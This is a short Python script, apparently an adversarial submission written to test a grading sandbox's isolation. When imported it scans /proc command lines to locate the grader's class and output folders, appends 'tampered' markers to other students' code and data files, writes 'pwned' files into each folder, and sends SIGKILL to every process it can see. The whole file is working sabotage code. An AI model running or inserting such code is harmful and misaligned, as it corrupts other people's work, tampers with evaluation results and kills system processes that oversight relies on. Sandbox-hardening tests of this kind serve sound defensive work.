# Finds the class folder and the output folder from the grader's arguments (/proc/*/cmdline), then tries to
# change every other submission, write into the output folder and kill every process it can see.
import os as _os


def _attack():
    import signal
    targets = []
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\0")
        except OSError:
            continue
        targets += [a for a in args if a.startswith("/")]
    budget = 3000
    for target in targets:
        for folder, _dirs, files in _os.walk(target):
            budget -= len(files) + 1
            if budget < 0:
                break
            for name in files:
                if name.endswith((".py", ".json", ".csv", ".html")):
                    try:
                        with open(_os.path.join(folder, name), "a") as fh:
                            fh.write("\n# tampered {MARKER}\n")
                    except OSError:
                        pass
            try:
                with open(_os.path.join(folder, "pwned-{MARKER}.txt"), "w") as fh:
                    fh.write("x")
            except OSError:
                pass
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                _os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass


_attack()
